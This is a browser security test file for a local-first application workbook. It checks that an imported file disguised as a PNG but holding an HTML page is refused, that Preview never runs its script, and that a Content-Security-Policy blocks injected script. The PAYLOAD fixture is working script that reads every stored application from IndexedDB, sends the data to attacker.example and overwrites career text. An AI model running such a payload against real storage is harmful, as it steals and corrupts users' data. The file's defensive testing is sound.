// Issue 8, part 1, in real Chromium: a file someone sends cannot run script in the workbook. The
// attack as found: an exported application whose "accountability diagram" is really a web page
// whose script reads every application in IndexedDB, tries to send them away and rewrites the
// career text; Preview opened it in a tab of the workbook's own origin. Also: the workbook's
// Content-Security-Policy is on the served page, forbids inline and foreign script, and leaves
// the workbook itself (service worker included) working.

import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { bytesToBase64 } from '../../core/exchange/base64.ts';
import { serializeApplication } from '../../core/exchange/format.ts';
import { sha256OfBytes } from '../../core/exchange/hash.ts';
import type { Application, DocumentRef } from '../../core/types.ts';
import { PNG_1PX } from '../core/exchange/sample.ts';
import { sampleApplication } from '../extension/browser-helpers.ts';
import { type Harness, launch } from '../harness/browser.ts';

const ATTACKER = 'https://attacker.example';
const CAREER_TEXT = sampleApplication().roles[0]!.responsibilities;

/** The payload: read every application, try to send them away, rewrite the career text. */
const PAYLOAD = new TextEncoder().encode(`<!doctype html><html><body><p>Organisation chart</p><script>
const open = indexedDB.open('proreg-workbook');
open.onsuccess = () => {
  const store = open.result.transaction('applications', 'readwrite').objectStore('applications');
  store.getAll().onsuccess = (e) => {
    const apps = e.target.result;
    fetch('${ATTACKER}/steal', { method: 'POST', mode: 'no-cors', body: JSON.stringify(apps) }).catch(() => {});
    new Image().src = '${ATTACKER}/steal.gif?n=' + apps.length;
    for (const app of apps) { for (const role of app.roles) role.responsibilities = 'PWNED'; store.put(app); }
  };
};
</script></body></html>`);

const dir = mkdtempSync(join(tmpdir(), 'proreg-hostile-'));
let h: Harness;

beforeAll(async () => {
  h = await launch({ extension: false });
});
afterAll(async () => {
  await h?.close();
});

/** A document record of the accountability diagram for `bytes`, recorded as `mime`. */
function diagram(bytes: Uint8Array, mime: string, blobId: string): DocumentRef {
  return {
    typeId: 'accountability-diagram',
    name: 'org-chart.png',
    mime,
    size: bytes.length,
    sha256: sha256OfBytes(bytes),
    blobId,
    addedAt: '2026-11-20T10:00:00.000Z',
  };
}

/** Raw IndexedDB access from the page: put rows, or read every row of a store. */
function idb(page: Page, store: string, rows?: unknown[]): Promise<unknown[]> {
  return page.evaluate(
    ({ store, rows }) =>
      new Promise<unknown[]>((resolve, reject) => {
        const open = indexedDB.open('proreg-workbook');
        open.onerror = () => reject(open.error);
        // Never create the database here: that is the workbook's to do, with its stores.
        open.onupgradeneeded = () => open.transaction?.abort();
        open.onsuccess = () => {
          let tx: IDBTransaction;
          try {
            tx = open.result.transaction(store, rows ? 'readwrite' : 'readonly');
          } catch (error) {
            open.result.close();
            reject(error);
            return;
          }
          const os = tx.objectStore(store);
          let out: unknown[] = [];
          if (rows) for (const row of rows) os.put(row);
          else os.getAll().onsuccess = (e) => (out = (e.target as IDBRequest<unknown[]>).result);
          tx.oncomplete = () => {
            open.result.close();
            resolve(out);
          };
          tx.onerror = () => reject(tx.error);
        };
      }),
    { store, rows },
  );
}

/** A fresh workbook page holding the applicant's own application (career text included). */
async function workbookWithCareer(): Promise<Page> {
  const page = await h.context.newPage();
  await page.goto(h.pwaUrl);
  await page.getByRole('heading', { level: 1 }).waitFor();
  // The list screen opens storage only after its first read: wait until the workbook has made its database.
  await expect
    .poll(() => page.evaluate(async () => (await indexedDB.databases()).some((d) => d.name === 'proreg-workbook')), { timeout: 15_000 })
    .toBe(true);
  await idb(page, 'applications', [sampleApplication()]);
  return page;
}

async function careerTexts(page: Page): Promise<string[]> {
  const apps = (await idb(page, 'applications')) as Application[];
  return apps.flatMap((a) => a.roles.map((r) => r.responsibilities));
}

const stolen = () => h.outbound.filter((url) => url.startsWith(ATTACKER));

test('a crafted export whose document is a web page with script is refused on import, naming the document; nothing is stored', async () => {
  const page = await workbookWithCareer();
  // The attacker's file: the diagram's record says PNG, its file says web page (and is one).
  const base = sampleApplication({ id: 'from-a-friend', name: 'From a friend' });
  const app: Application = { ...base, documents: { 'accountability-diagram': diagram(PAYLOAD, 'image/png', 'evil') } };
  const file = serializeApplication(app, new Map([['evil', { name: 'org-chart.png', mime: 'text/html', bytes: PAYLOAD }]]));
  expect(file.attachments.evil!.base64).toBe(bytesToBase64(PAYLOAD));
  const path = join(dir, 'from-a-friend.json');
  writeFileSync(path, JSON.stringify(file));

  await page.goto(`${h.pwaUrl}#/import`);
  await page.getByLabel('Choose a file to import').setInputFiles(path);
  const alert = page.getByRole('alert').filter({ hasText: 'This file was not imported' });
  await alert.waitFor();
  expect(await alert.textContent()).toContain(
    'The Accountability diagram (“org-chart.png”) is recorded as a PNG image, but the file it points to is marked as a web page.',
  );
  expect(await page.getByRole('button', { name: 'Import', exact: true }).count()).toBe(0);
  expect(((await idb(page, 'applications')) as Application[]).map((a) => a.name)).toEqual(['CEng 2027']);
  expect(await idb(page, 'blobs')).toEqual([]);
  expect(await careerTexts(page)).toEqual([CAREER_TEXT]);
  expect(stolen()).toEqual([]);
  await page.close();
});

test('Preview of a stored web page (kept by an older version) never opens it: it is downloaded, and its script never runs', async () => {
  const page = await workbookWithCareer();
  // What the attack left behind on a workbook that imported it before the fix.
  const own = sampleApplication();
  const victim: Application = { ...own, documents: { 'accountability-diagram': diagram(PAYLOAD, 'image/png', 'evil') } };
  await idb(page, 'applications', [victim]);
  await page.evaluate(
    async (bytes) => {
      const blob = new Blob([new Uint8Array(bytes)], { type: 'text/html' });
      await new Promise<void>((resolve, reject) => {
        const open = indexedDB.open('proreg-workbook');
        open.onsuccess = () => {
          const tx = open.result.transaction('blobs', 'readwrite');
          tx.objectStore('blobs').put({ id: 'evil', blob });
          tx.oncomplete = () => {
            open.result.close();
            resolve();
          };
          tx.onerror = () => reject(tx.error);
        };
      });
    },
    [...PAYLOAD],
  );
  await page.goto(`${h.pwaUrl}#/app/${own.id}/documents`);
  const opened: Page[] = [];
  h.context.on('page', (p) => opened.push(p));
  const download = page.waitForEvent('download');
  download.catch(() => undefined); // awaited below; a page closed by a failure must not also fail the run
  await page.getByRole('button', { name: 'Preview Accountability diagram' }).click();
  // Give a tab that must not exist time to run its script, then look for what it would have done.
  await page.waitForTimeout(1500);
  expect(await careerTexts(page)).toEqual([CAREER_TEXT]);
  expect(stolen()).toEqual([]);
  expect(opened.map((p) => p.url())).toEqual([]);
  expect((await download).suggestedFilename()).toBe('org-chart.png');
  await page.getByText('“org-chart.png” is not a PDF, PNG or JPEG image, so it cannot be shown here; it was downloaded instead.').waitFor();
  await page.close();
});

test('Preview shows a real PNG as an image, whatever type was recorded for it', async () => {
  const page = await workbookWithCareer();
  const own = sampleApplication();
  await idb(page, 'applications', [{ ...own, documents: { 'accountability-diagram': diagram(PNG_1PX, 'image/png', 'png') } }]);
  await page.evaluate(
    async (bytes) => {
      // Recorded as a web page by whatever stored it: the bytes decide.
      const blob = new Blob([new Uint8Array(bytes)], { type: 'text/html' });
      await new Promise<void>((resolve) => {
        const open = indexedDB.open('proreg-workbook');
        open.onsuccess = () => {
          const tx = open.result.transaction('blobs', 'readwrite');
          tx.objectStore('blobs').put({ id: 'png', blob });
          tx.oncomplete = () => resolve();
        };
      });
    },
    [...PNG_1PX],
  );
  await page.goto(`${h.pwaUrl}#/app/${own.id}/documents`);
  const [shown] = await Promise.all([
    h.context.waitForEvent('page'),
    page.getByRole('button', { name: 'Preview Accountability diagram' }).click(),
  ]);
  await shown.waitForLoadState();
  expect(shown.url()).toMatch(/^blob:/);
  await shown.waitForFunction(() => (document.querySelector('img') as HTMLImageElement | null)?.naturalWidth === 1);
  expect(await shown.evaluate(() => document.contentType)).toBe('image/png');
  await shown.close();
  await page.close();
});

test('the served workbook carries a Content-Security-Policy: inline and foreign script do not run, the workbook and its service worker do', async () => {
  const page = await h.context.newPage();
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  const violations = () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
  await page.goto(h.pwaUrl);
  await page.getByRole('heading', { level: 1 }).waitFor();
  const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'));
  const directives = new Map(
    (policy ?? '').split(';').map((d) => {
      const [name, ...values] = d.trim().split(/\s+/);
      return [name!, values];
    }),
  );
  expect(directives.get('script-src')).toEqual(["'self'"]);
  expect(directives.get('default-src')).toEqual(["'none'"]);
  expect(directives.get('base-uri')).toEqual(["'none'"]);

  // The workbook itself runs under it: create an application, walk every screen, no violation.
  await page.getByLabel('Name of the application').fill('Under the policy');
  await page.getByRole('button', { name: 'Create application' }).click();
  await page.getByRole('heading', { level: 2, name: 'Overview' }).waitFor();
  const url = page.url();
  for (const screen of ['checklist', 'career', 'documents', 'panelling', 'validate', 'exchange']) {
    await page.goto(url.replace(/overview$/, screen));
    await page.getByRole('heading', { level: 2 }).first().waitFor();
  }
  await page.goto(`${h.pwaUrl}#/settings`);
  await page.getByRole('heading', { level: 2 }).first().waitFor();
  expect(await violations()).toEqual([]);

  // The service worker registers and takes control under the policy (offline use depends on it).
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
  });
  if (!(await page.evaluate(() => navigator.serviceWorker.controller !== null))) await page.reload();
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);

  // Script put into the page by anything (an injection we have not thought of) does not run.
  await page.evaluate(() => {
    const inline = document.createElement('script');
    inline.textContent = 'window.__ran = "inline"';
    document.body.append(inline);
    const foreign = document.createElement('script');
    foreign.src = 'https://attacker.example/x.js';
    document.body.append(foreign);
    const handler = document.createElement('img');
    handler.setAttribute('onerror', 'window.__ran = "handler"');
    handler.src = 'data:,not-an-image';
    document.body.append(handler);
  });
  await page.waitForFunction(() => (window as unknown as { __violations: string[] }).__violations.length >= 3);
  expect(await page.evaluate(() => (window as unknown as { __ran?: string }).__ran ?? null)).toBeNull();
  expect((await violations()).sort()).toEqual([
    'script-src-attr inline',
    'script-src-elem https://attacker.example/x.js',
    'script-src-elem inline',
  ]);
  // Nothing in this file's tests, the workbook included, asked for anything off the device.
  expect(h.outbound).toEqual([]);

  // A web page opened from the workbook (as Preview once did) inherits the policy: its script does not run.
  const [child] = await Promise.all([
    h.context.waitForEvent('page'),
    page.evaluate(() => {
      const html = '<p>page</p><script>document.title = "ran"</script>';
      window.open(URL.createObjectURL(new Blob([html], { type: 'text/html' })), '_blank', 'noopener');
    }),
  ]);
  await child.waitForLoadState();
  await child.getByText('page').waitFor();
  expect(await child.title()).not.toBe('ran');
  await child.close();
  await page.close();
});
